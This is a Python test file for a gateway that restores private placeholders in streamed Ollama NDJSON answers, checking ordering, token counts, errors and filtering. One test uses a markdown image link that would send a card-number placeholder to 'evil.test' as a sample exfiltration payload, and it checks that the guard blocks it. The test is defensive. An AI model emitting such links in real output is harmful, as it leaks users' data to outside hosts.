"""Streamed answers of Ollama's wires, one JSON object on a line; `contract` tests what they share with the others."""

import json
import random
from collections.abc import Iterable
from typing import Any

import pytest

from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.wires.base import Body
from gateway.wires.ollama_chat import WIRE
from gateway.wires.ollama_generate import WIRE as GENERATE
from tests.gateway.wires.replays import CARD, MAIL, QUOTED, chunks, plan, replay, session, written

PLACEHOLDERS, OF = session()
THOUGHT, SAID = f"They are {QUOTED}.", f"Write to {MAIL} about {CARD}; grüße"
HEAD: Body = {"model": "m", "created_at": "2026-11-28T12:00:00Z"}
CALL = {"function": {"name": "send", "arguments": {"to": {"deep": [MAIL, 1]}, "note": QUOTED}}}
DONE: Body = {"done": True, "done_reason": "stop", "prompt_eval_count": 3, "eval_count": 4}
NOTE = {"request_id": "r"}


def lines(events: Iterable[Body]) -> bytes:
    return b"".join(json.dumps(event, ensure_ascii=False).encode() + b"\n" for event in events)


def pieces(text: str, size: int) -> list[str]:
    return [*chunks(written(text, OF), random.Random(size), size)]


def answer(size: int) -> bytes:
    """An answer as the server sends it: thinking, text, a call, and the last line."""
    said: list[Body] = [{"content": "", "thinking": piece} for piece in pieces(THOUGHT, size)]
    said += [{"content": piece} for piece in pieces(SAID, size)]
    said += [{"content": "", "tool_calls": [json.loads(written(json.dumps(CALL, ensure_ascii=False), OF))]}]
    events = [{**HEAD, "message": {"role": "assistant", **each}, "done": False} for each in said]
    return lines([*events, {**HEAD, "message": {"role": "assistant", "content": ""}, **DONE}])


def generated(size: int) -> bytes:
    said: list[Body] = [{"response": "", "thinking": piece} for piece in pieces(THOUGHT, size)]
    said += [{"response": piece} for piece in pieces(SAID, size)]
    events = [{**HEAD, **each, "done": False} for each in said]
    return lines([*events, {**HEAD, "response": "", **DONE, "context": [1, 2]}])


def restored(body: bytes, wire: Any = WIRE, **more: Any) -> list[Body]:
    got, _ = replay(wire, [body], plan(PLACEHOLDERS, framing="ndjson", note=NOTE, **more))
    assert got.endswith(b"\n")
    return [json.loads(line) for line in got.splitlines()]


@pytest.mark.parametrize("size", [1, 3, 7, 60])
def test_a_chat_is_restored(size: int) -> None:
    found = restored(answer(size))
    spoken = [each["message"] for each in found]
    assert "".join(each.get("thinking", "") for each in spoken) == THOUGHT
    assert "".join(each["content"] for each in spoken) == SAID
    assert [each["tool_calls"] for each in spoken if "tool_calls" in each] == [[CALL]]
    # The held end of a text comes before the next one.
    order = [name for each in spoken for name in ("thinking", "content", "tool_calls") if each.get(name)]
    assert order == sorted(order, key=["thinking", "content", "tool_calls"].index)
    assert [each["svc"]["request_id"] for each in found if "svc" in each] == ["r"]
    assert found[-1]["done"] is True


@pytest.mark.parametrize("size", [1, 3, 7, 60])
def test_a_generated_text_is_restored(size: int) -> None:
    found = restored(generated(size), GENERATE)
    assert "".join(each.get("thinking", "") for each in found) == THOUGHT
    assert "".join(each["response"] for each in found) == SAID
    assert found[-1]["context"] == [1, 2]


def test_tokens_are_counted_and_lines_without_placeholders_keep_their_bytes() -> None:
    body = b'{"model": "m",  "message": {"content": "Hi."}, "done": false}\r\n' + lines([{**HEAD, **DONE}])
    got, end = replay(WIRE, [body], plan(PLACEHOLDERS, framing="ndjson"))
    assert (got, end.tokens) == (body, (3, 4))


def test_tokens_of_a_restored_text_are_left_out() -> None:
    """Lines in which nothing is restored keep theirs."""
    said = ["Hi. ", written(MAIL, OF), " \n"]
    events = [{"message": {"content": each}, "logprobs": [{"token": each}], "done": False} for each in said]
    found = restored(lines([*events, {**HEAD, **DONE}]))
    assert [each["logprobs"] for each in found if "logprobs" in each][:2] == [[{"token": "Hi. "}], []]


def test_an_error_in_a_stream_is_restored_and_ends_it() -> None:
    (held, error) = restored(
        lines([{"message": {"content": f"Dear {OF[MAIL]}"}}, {"error": f"No {OF[CARD]}."}]), guard=None
    )[-2:]
    assert held["message"]["content"] == MAIL or held["message"]["content"].endswith(MAIL)
    assert error == {"error": f"No {CARD}."}


@pytest.mark.parametrize(("wire", "said"), [(WIRE, ("message", "content")), (GENERATE, ("response",))])
def test_a_withheld_stream_ends_with_its_reason(wire: Any, said: tuple[str, ...]) -> None:
    text: Any = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    for name in reversed(said):
        text = {name: text}
    found: Any = restored(lines([{**HEAD, **text, "done": False}]), wire, guard={"placeholder_in_url": "replace"})[-1]
    assert (found["done"], found["done_reason"]) == (True, "content_filter")
    for name in said:
        found = found[name]
    assert found == CONTENT_FILTERED


def test_a_line_that_breaks_off_is_an_error() -> None:
    body, end = replay(WIRE, [lines([{"message": {"content": "a"}}]), b'{"mess'], plan(PLACEHOLDERS, framing="ndjson"))
    assert end.outcome == "unreadable_answer"
    error = json.loads(body.splitlines()[-1])
    assert (error["code"], isinstance(error["error"], str)) == ("upstream_invalid", True)
